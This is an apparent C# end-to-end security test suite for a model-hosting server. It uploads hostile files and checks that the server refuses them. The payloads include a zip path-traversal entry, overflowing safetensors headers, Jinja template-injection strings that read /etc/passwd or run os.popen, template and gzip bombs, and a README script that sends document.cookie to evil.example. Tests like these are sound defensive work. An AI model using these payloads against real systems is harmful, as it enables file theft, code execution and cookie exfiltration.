using System.Buffers.Binary;
using System.IO.Compression;
using System.Text;
using TinyLlm.Tests;

namespace TinyLlm.EndToEnd.Tests.Attacks;

/// <summary>By what is uploaded.</summary>
internal static class FileAttacks
{
    public static Attack[] All { get; } =
    [
        new("archive upload", ArchiveAsync),
        new("tensor offsets past the end", ground => WeightsAsync(ground, """{"model.embed_tokens.weight":{"dtype":"F32","shape":[259,16],"data_offsets":[0,99999999]}}""")),
        new("size overflow", ground => WeightsAsync(ground, """{"model.embed_tokens.weight":{"dtype":"F32","shape":[4294967296,4294967296],"data_offsets":[0,64]}}""")),
        new("huge header length", HugeHeaderAsync),
        new("template escape and template bombs", TemplatesAsync),
        new("content-encoded upload", ContentEncodedAsync),
        new("dedupe oracle", DedupeAsync),
        new("polyglot download", PolyglotAsync),
    ];

    private static async Task ArchiveAsync(AttackGround ground)
    {
        using MemoryStream zip = new();
        using (ZipArchive archive = new(zip, ZipArchiveMode.Create, leaveOpen: true))
        using (StreamWriter entry = new(archive.CreateEntry("../../../../evil").Open()))
            entry.Write("evil");
        foreach (string name in (string[])["model.zip", "model.tar.gz", "pytorch_model.bin", "model.pkl", "__init__.py", "model.safetensors.zip"])
            AttackGround.RefusedInWords(await ground.PushAsync(new Dictionary<string, byte[]> { [name] = zip.ToArray() }), 400);
        AttackGround.RefusedInWords(await ground.PushAsync(With("model.safetensors", zip.ToArray())), 422);
        AttackGround.RefusedInWords(await ground.PushAsync(With("tokenizer.json", zip.ToArray())), 422);
    }

    private static async Task WeightsAsync(AttackGround ground, string header)
    {
        byte[] text = Encoding.UTF8.GetBytes(header);
        byte[] file = new byte[8 + text.Length + 64];
        BinaryPrimitives.WriteInt64LittleEndian(file, text.Length);
        text.CopyTo(file, 8);
        AttackGround.RefusedInWords(await ground.PushAsync(With("model.safetensors", file)), 422);
    }

    private static async Task HugeHeaderAsync(AttackGround ground)
    {
        foreach (ulong length in (ulong[])[ulong.MaxValue, long.MaxValue, 1UL << 40, 100_000_001, 99_999_999])
        {
            byte[] file = new byte[4096];
            BinaryPrimitives.WriteUInt64LittleEndian(file, length);
            file[8] = (byte)'{';
            AttackGround.RefusedInWords(await ground.PushAsync(With("model.safetensors", file)), 422);
        }
    }

    private static async Task TemplatesAsync(AttackGround ground)
    {
        string[] escapes =
        [
            "{{ ''.__class__.__mro__[1].__subclasses__() }}",
            "{{ messages.GetType().Assembly.Location }}",
            "{{ self.__init__.__globals__.__builtins__.open('/etc/passwd').read() }}",
            "{% include '/etc/passwd' %}",
            "{% import 'os' as os %}{{ os.popen('id').read() }}",
        ];
        string[] bombs =
        [
            "{% for i in range(1000000000) %}x{% endfor %}",
            "{% for a in range(10000) %}{% for b in range(10000) %}{% for c in range(10000) %}{% endfor %}{% endfor %}{% endfor %}",
            "{% set x = 'a' * 100000000 %}{{ x }}",
            "{% set ns = namespace(s='ab') %}{% for i in range(64) %}{% set ns.s = ns.s + ns.s %}{% endfor %}{{ ns.s }}",
            "{% macro m(n) %}{{ m(n + 1) }}{% endmacro %}{{ m(0) }}",
            string.Concat(Enumerable.Repeat("{% if true %}", 2_000)) + string.Concat(Enumerable.Repeat("{% endif %}", 2_000)),
            "{{ " + new string('(', 5_000) + "1" + new string(')', 5_000) + " }}",
            "{{ raise_exception('" + new string('x', 70_000) + "') }}",
        ];
        // Refused when it is uploaded or when it is rendered; what does render of an escape is plain text.
        foreach ((string template, int[] statuses) in (IEnumerable<(string, int[])>)[.. escapes.Select(escape => (escape, (int[])[200, 400, 422])), .. bombs.Select(bomb => (bomb, (int[])[400, 422]))])
        {
            RawAnswer answer = await ground.PushAsync(With("chat_template.jinja", Encoding.UTF8.GetBytes(template)));
            AttackGround.Refused(answer, statuses);
            Assert.DoesNotContain("root:", answer.Body, StringComparison.Ordinal);
        }
    }

    private static async Task ContentEncodedAsync(AttackGround ground)
    {
        using MemoryStream bomb = new();
        using (GZipStream gzip = new(bomb, CompressionLevel.SmallestSize, leaveOpen: true)) gzip.Write(new byte[10 << 20]);
        string model = ground.NewName("encoded");
        string upload = await ground.Mallory.BeginUploadAsync(model);
        foreach (string coding in (string[])["gzip", "br", "deflate", "identity, gzip"])
        {
            AttackGround.RefusedInWords(await ground.SendAsync("PUT", $"/api/models/{model}/uploads/{upload}/files/model.safetensors", bomb.ToArray(), $"Content-Encoding: {coding}"), 415);
            AttackGround.RefusedInWords(await ground.SendAsync("POST", "/v1/completions", bomb.ToArray(), "Content-Type: application/json", $"Content-Encoding: {coding}"), 415);
            AttackGround.RefusedInWords(await ground.SendAsync("POST", "/api/tokens", bomb.ToArray(), "Content-Type: application/json", $"Content-Encoding: {coding}"), 415);
        }
        Assert.Equal(204, (await ground.SendAsync("DELETE", $"/api/models/{model}/uploads/{upload}")).Status);
    }

    /// <summary>Bytes that alice has stored are taken like any others.</summary>
    private static async Task DedupeAsync(AttackGround ground)
    {
        byte[] known = TinyModel.Weights(); // alice's
        byte[] fresh = TinyModel.Weights(seed: 4711);
        Assert.Equal(known.Length, fresh.Length);
        string model = ground.NewName("dedupe");
        string[] uploads = [await ground.Mallory.BeginUploadAsync(model), await ground.Mallory.BeginUploadAsync(model)];
        RawAnswer[] answers =
        [
            await ground.SendAsync("PUT", $"/api/models/{model}/uploads/{uploads[0]}/files/model.safetensors", known),
            await ground.SendAsync("PUT", $"/api/models/{model}/uploads/{uploads[1]}/files/model.safetensors", fresh),
        ];
        Assert.Equal(200, answers[0].Status);
        Assert.Equal(answers[0].Body, answers[1].Body);
        Assert.Equal(Headers(answers[0]), Headers(answers[1]));
        foreach (string upload in uploads) Assert.Equal(204, (await ground.SendAsync("DELETE", $"/api/models/{model}/uploads/{upload}")).Status);
    }

    private static async Task PolyglotAsync(AttackGround ground)
    {
        string model = ground.NewName("polyglot");
        Dictionary<string, byte[]> files = TinyModel.Files();
        files["README.md"] = "<!doctype html><script>fetch('//evil.example/'+document.cookie)</script>"u8.ToArray();
        await ground.Mallory.UploadAsync(model, files);
        RawAnswer answer = await ground.SendAsync("GET", $"/api/models/mallory/{model}/versions/1/files/README.md");
        Assert.Equal(200, answer.Status);
        Assert.Contains("Content-Type: application/octet-stream", answer.Head, StringComparison.OrdinalIgnoreCase);
        Assert.Contains("Content-Disposition: attachment", answer.Head, StringComparison.OrdinalIgnoreCase);
        Assert.Contains("X-Content-Type-Options: nosniff", answer.Head, StringComparison.OrdinalIgnoreCase);
        Assert.Equal(200, (await ground.SendAsync("DELETE", $"/api/models/mallory/{model}")).Status);
    }

    private static Dictionary<string, byte[]> With(string name, byte[] bytes) => new(TinyModel.Files()) { [name] = bytes };

    /// <summary>Without those that tell the time, or how much the caller may still send.</summary>
    private static IEnumerable<string> Headers(RawAnswer answer) => answer.Head.Split("\r\n").Where(line =>
        !line.StartsWith("Date:", StringComparison.OrdinalIgnoreCase) && !line.Contains("ratelimit", StringComparison.OrdinalIgnoreCase));
}
